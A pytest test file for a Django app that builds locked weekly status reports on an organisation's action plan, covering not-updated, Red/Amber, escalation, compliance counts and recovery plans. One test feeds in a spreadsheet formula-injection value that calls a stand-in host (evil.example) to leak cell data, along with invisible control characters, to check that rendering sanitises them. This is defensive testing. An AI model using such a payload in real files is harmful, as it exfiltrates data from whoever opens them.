"""What the report lists and why: each rule on hand-made data, read from the lock's snapshot.

Two weeks of updates: the week ending Wed 18 Nov 2026 (the previous period) and the week
ending Wed 25 Nov 2026 (the report's period). Late-window saves, edits after the lock and
actions added after it never change what the report says.
"""

from __future__ import annotations

import datetime as dt
import re

import pytest

from actions import services as plan_services
from actions.models import FindingKind, Status
from reporting import content as c
from reporting import selectors, services
from reporting.pdf import render_html, render_pdf
from reporting.presenter import present, present_compact
from tests.factories import RECOVERY, ActionFactory

from .conftest import lock_at, london, pdf_text, requires_pdftotext, submit, travel, week

THIS_DEADLINE = dt.date(2026, 11, 25)
PREVIOUS_DEADLINE = dt.date(2026, 11, 18)


@pytest.fixture
def two_weeks(plan, lead, other_lead, don, md):
    """Hand-made actions covering every rule; returns (report, actions by ref)."""
    far = dt.date(2027, 6, 30)
    specs = {
        # ref: (lead, exec roles, end date, status now, kind)
        "OK1": (lead, [don], far, Status.GREEN, FindingKind.MUST),
        "NU1": (lead, [don], far, Status.GREEN, FindingKind.MUST),  # missed this week only
        "NU2": (lead, [don], far, Status.GREEN, FindingKind.MUST),  # missed both weeks
        "RD2": (other_lead, [md], far, Status.GREEN, FindingKind.SHOULD),  # Red both weeks
        "AM1": (other_lead, [don, md], far, Status.GREEN, FindingKind.SHOULD),  # Green→Amber
        "RD1": (other_lead, [md], far, Status.GREEN, FindingKind.MUST),  # Amber→Red
        "PE1": (lead, [don], dt.date(2026, 11, 24), Status.GREEN, FindingKind.MUST),
        "BL1": (lead, [don], dt.date(2026, 1, 31), Status.BLUE, FindingKind.MUST),
        "DE1": (lead, [], dt.date(2026, 11, 25), Status.GREEN, FindingKind.REGULATORY),
        "DE2": (lead, [], dt.date(2026, 12, 23), Status.GREEN, FindingKind.MUST),
        "DE3": (lead, [], dt.date(2026, 12, 24), Status.GREEN, FindingKind.MUST),
        "UN1": (None, [md], far, Status.WHITE, FindingKind.SHOULD),  # no action lead
        "LT1": (other_lead, [md], far, Status.GREEN, FindingKind.SHOULD),  # late window
    }
    actions = {}
    for ref, (who, roles, end, status, kind) in specs.items():
        action = ActionFactory(
            plan=plan,
            ref=ref,
            action_lead=who,
            end_date=end,
            status=status,
            kind=kind,
            department="Surgery" if who == other_lead else "Trust wide",
        )
        action.exec_roles.set(roles)
        actions[ref] = action

    previous = week(plan, PREVIOUS_DEADLINE)
    for ref in ["OK1", "NU1", "PE1", "DE1", "DE2", "DE3", "LT1"]:
        submit(actions[ref], previous)
    submit(actions["RD2"], previous, Status.RED, "Vacancies unfilled.")
    submit(actions["AM1"], previous, Status.GREEN, "Audit on track.")
    submit(actions["RD1"], previous, Status.AMBER, "Two weeks behind.")
    lock_at(plan, london(2026, 11, 18, 12, 1))

    this = week(plan, THIS_DEADLINE)
    for ref in ["OK1", "PE1", "DE1", "DE2", "DE3"]:
        submit(actions[ref], this)
    submit(actions["RD2"], this, Status.RED, "Still no applicants; agency cover.")
    submit(actions["AM1"], this, Status.AMBER, "Audit slipped: staff sickness.")
    submit(actions["RD1"], this, Status.RED, "Equipment not funded.")
    lock_at(plan, london(2026, 11, 25, 12, 1))
    # After the lock: the PMO gives LT1's lead a late window and the update goes in.
    with travel(london(2026, 11, 25, 14)):
        plan_services.late_window_grant(
            period=this,
            lead=other_lead,
            expires_at=london(2026, 11, 25, 17),
            reason="Was on leave",
            by=None,
        )
        plan_services.update_submit(
            action=actions["LT1"],
            period=this,
            author=other_lead,
            status=Status.GREEN,
            narrative="On plan",
        )
    this.refresh_from_db()
    report = services.report_build(period=this, now=london(2026, 11, 25, 12, 2))
    return report, actions


def listed(report, flag: str) -> list[str]:
    return [a["ref"] for a in report.content["actions"] if flag in a["flags"]]


def entry(report, ref: str) -> dict:
    return next(a for a in report.content["actions"] if a["ref"] == ref)


def test_actions_without_an_update_at_the_lock_are_listed_as_not_updated(two_weeks):
    report, _ = two_weeks
    assert listed(report, c.NOT_UPDATED) == ["NU1", "NU2", "LT1", "UN1"]
    assert entry(report, "UN1")["lead"] == ""


def test_an_update_saved_in_a_late_window_after_the_lock_still_counts_as_not_updated(two_weeks):
    report, _ = two_weeks
    assert entry(report, "LT1")["updated"] is False
    surgery = next(
        d for d in report.content["compliance"]["by_department"] if d["key"] == "Surgery"
    )
    assert (surgery["received"], surgery["due"]) == (3, 4)


def test_red_and_amber_sections_follow_the_status_at_the_lock(two_weeks):
    report, _ = two_weeks
    assert listed(report, c.RED) == ["RD1", "RD2"]
    assert listed(report, c.AMBER) == ["AM1"]


def test_past_end_date_means_before_the_deadline_day_and_not_blue(two_weeks):
    report, _ = two_weeks
    assert listed(report, c.PAST_END) == ["PE1"]
    assert "BL1" not in [a["ref"] for a in report.content["actions"]]


def test_due_to_end_covers_the_deadline_day_to_four_weeks_after(two_weeks):
    report, _ = two_weeks
    assert listed(report, c.DUE_TO_END) == ["DE1", "DE2"]


def test_status_change_compares_with_the_previous_locked_period_and_keeps_both_narratives(
    two_weeks,
):
    report, _ = two_weeks
    assert listed(report, c.CHANGED) == ["RD1", "AM1"]
    amber = entry(report, "AM1")
    assert (amber["prev"]["status"], amber["status"]) == (Status.GREEN, Status.AMBER)
    assert amber["prev"]["narrative"] == "Audit on track."
    assert amber["narrative"] == "Audit slipped: staff sickness."


def test_two_periods_not_updated_or_red_are_marked_for_escalation(two_weeks):
    report, _ = two_weeks
    escalated = {a["ref"]: a["escalate"] for a in report.content["actions"] if a["escalate"]}
    assert escalated == {
        "NU2": [c.NOT_UPDATED_TWICE],
        "RD2": [c.RED_TWICE],
        "UN1": [c.NOT_UPDATED_TWICE],
    }


def test_one_period_not_updated_or_red_is_not_escalated(two_weeks):
    report, _ = two_weeks
    assert entry(report, "NU1")["escalate"] == []
    assert entry(report, "RD1")["escalate"] == []


def test_table_1_counts_finding_kind_by_status_at_the_lock(two_weeks):
    report, _ = two_weeks
    view = present(selectors.report_document(report))
    assert view.table.count(FindingKind.MUST, Status.RED) == 1
    assert view.table.count(FindingKind.MUST, Status.GREEN) == 6
    assert view.table.count(FindingKind.MUST, Status.BLUE) == 1
    assert view.table.count(FindingKind.SHOULD, Status.RED) == 1
    assert view.table.count(FindingKind.SHOULD, Status.AMBER) == 1
    assert view.table.count(FindingKind.SHOULD, Status.WHITE) == 1
    assert view.table.count(FindingKind.REGULATORY, Status.GREEN) == 1
    assert view.table.grand_total == 13


def test_compliance_counts_updates_received_by_the_deadline_out_of_those_due(two_weeks):
    report, _ = two_weeks
    compliance = report.content["compliance"]
    # Due: the 11 open actions with a lead (BL1 is Blue, UN1 has no lead). Missed: NU1, NU2, LT1.
    assert compliance["overall"] == {"due": 11, "received": 8}
    assert compliance["unassigned"] == 1
    by_exec = {r["key"]: (r["received"], r["due"]) for r in compliance["by_exec"]}
    assert by_exec == {"DoN": (3, 5), "MD": (3, 4), "": (3, 3)}


def test_report_is_grouped_by_exec_lead_and_a_shared_action_appears_under_both(two_weeks):
    report, _ = two_weeks
    view = present(selectors.report_document(report))
    assert [g.code for g in view.groups] == ["DoN", "MD", ""]
    don = view.groups[0]
    assert don.heading.startswith("DoN · Director of Nursing · Helen Carter")
    refs = {s.key: [r.ref for r in s.rows] for s in don.sections}
    assert refs[c.AMBER] == ["AM1"]
    md = {s.key: [r.ref for r in s.rows] for s in view.groups[1].sections}
    assert md[c.AMBER] == ["AM1"]
    assert md[c.RED] == ["RD1", "RD2"]


def test_an_exec_leads_copy_puts_their_own_actions_first(two_weeks):
    report, _ = two_weeks
    view = present(selectors.report_document(report), first_codes=["MD"])
    assert [g.code for g in view.groups] == ["MD", "DoN", ""]
    assert view.groups[0].mine and not view.groups[1].mine


def test_the_pdf_names_a_shared_action_once_in_full_and_refers_to_it_after(two_weeks):
    report, _ = two_weeks
    view = present_compact(selectors.report_document(report))
    amber_md = next(s for s in view.groups[1].sections if s.key == c.AMBER)
    assert amber_md.rows == []
    assert [(r.ref, code) for r, code in amber_md.shown_under] == [("AM1", "DoN")]
    assert amber_md.count == 1


def test_the_pdf_holds_no_control_or_invisible_characters_typed_into_the_plan(two_weeks):
    report, _ = two_weeks
    document = selectors.report_document(report)
    row = next(a for a in document["content"]["actions"] if a["ref"] == "RD1")
    row["requirement"] = '\x01=HYPERLINK("http://evil.example/?"&A1,"click")\u202e'
    row["narrative"] = "Equipment\x07 not\u200b funded.\ufeff"
    html = render_html(document)
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\u200b\u202a-\u202e\ufeff]", html)
    assert "Equipment not funded." in html
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)" in html


def test_edits_after_the_lock_never_change_the_report(two_weeks, pmo, other_lead):
    report, actions = two_weeks
    before = report.content
    with travel(london(2026, 11, 30, 10)):
        plan_services.action_edit(
            action=actions["AM1"],
            by=pmo,
            base_version=None,
            requirement="Rewritten after the lock.",
            end_date=dt.date(2026, 11, 1),
        )
        submit(
            actions["AM1"],
            week(actions["AM1"].plan, dt.date(2026, 12, 2)),
            Status.GREEN,
            "Recovered.",
            at=london(2026, 11, 30, 10),
        )
        ActionFactory(plan=actions["AM1"].plan, ref="NEW1", action_lead=other_lead)
    report.refresh_from_db()
    assert report.content == before
    assert entry(report, "AM1")["requirement"] != "Rewritten after the lock."
    # Building again returns the same report: it is never rebuilt from the live plan.
    assert services.report_build(period=report.period).pk == report.pk
    report.refresh_from_db()
    assert report.content == before


def test_closures_waiting_for_a_decision_come_from_the_evidence_app(two_weeks, monkeypatch, lead):
    report, actions = two_weeks

    class Closure:
        def __init__(self, action):
            self.action = action
            self.requested_at = london(2026, 11, 24, 15)
            self.requested_by = lead
            self.summary = "Audit shows 95% compliance for three months."

    import evidence.selectors as evidence_selectors

    def awaiting(plan, at):
        assert at == report.period.locked_at
        return [Closure(actions["OK1"])]

    monkeypatch.setattr(evidence_selectors, "closures_awaiting_decision", awaiting, raising=False)
    monkeypatch.setattr(
        evidence_selectors, "closures_declined_between", lambda plan, s, e: [], raising=False
    )
    content = c.report_content(
        period=report.period,
        report_settings=services.report_settings_ensure(plan=report.period.plan),
    )
    assert content["closures"]["awaiting"][0]["ref"] == "OK1"
    assert content["closures"]["awaiting"][0]["summary"].startswith("Audit shows 95%")
    ok1 = next(a for a in content["actions"] if a["ref"] == "OK1")
    assert ok1["flags"] == [c.CLOSURE]
    view = present({**selectors.report_document(report), "content": content})
    don = next(g for g in view.groups if g.code == "DoN")
    assert [s.key for s in don.sections][-1] == c.CLOSURE


def test_without_closure_readers_the_report_has_no_closure_section(two_weeks, monkeypatch):
    report, _ = two_weeks
    monkeypatch.setattr(c, "_evidence_reader", lambda name: None)
    content = c.report_content(
        period=report.period,
        report_settings=services.report_settings_ensure(plan=report.period.plan),
    )
    assert content["closures"] == {"available": False, "awaiting": [], "declined": [], "error": ""}


def test_a_period_not_yet_locked_has_no_report(plan, lead):
    ActionFactory(plan=plan, action_lead=lead)
    period = week(plan, THIS_DEADLINE)
    with pytest.raises(Exception, match="has not locked yet"):
        services.report_build(period=period, now=london(2026, 11, 24, 9))


def test_report_content_reads_a_fixed_number_of_queries(two_weeks, django_assert_max_num_queries):
    """The snapshot is read in bulk: no query per action (13), lead or exec role. Nine:
    the ninth reads the Red actions' recovery plans, all in one query."""
    report, _ = two_weeks
    settings = services.report_settings_ensure(plan=report.period.plan)
    with django_assert_max_num_queries(9):
        c.report_content(period=report.period, report_settings=settings)


def test_red_actions_carry_their_recovery_plan_into_the_report(two_weeks):
    report, _ = two_weeks
    content = c.report_content(
        period=report.period,
        report_settings=services.report_settings_ensure(plan=report.period.plan),
    )
    rows = {a["ref"]: a for a in content["actions"]}
    assert rows["RD1"]["recovery_plan"] == {
        "what": RECOVERY["what"],
        "by_when": RECOVERY["by_when"].isoformat(),
        "who": RECOVERY["who"],
    }
    assert rows["AM1"]["recovery_plan"] is None  # Amber: no recovery plan asked for
    page = render_html({**selectors.report_document(report), "content": content})
    assert f"Recovery plan: {RECOVERY['what']}" in page


@requires_pdftotext
def test_the_report_pdf_shows_each_red_actions_recovery_plan(two_weeks, tmp_path):
    report, _ = two_weeks
    content = c.report_content(
        period=report.period,
        report_settings=services.report_settings_ensure(plan=report.period.plan),
    )
    text = " ".join(
        pdf_text(
            render_pdf({**selectors.report_document(report), "content": content}), tmp_path
        ).split()
    )
    assert "Recovery plan: Escalated to the exec lead; extra staff found" in text
    assert "by 31/12/2099, DoN with ward managers" in text
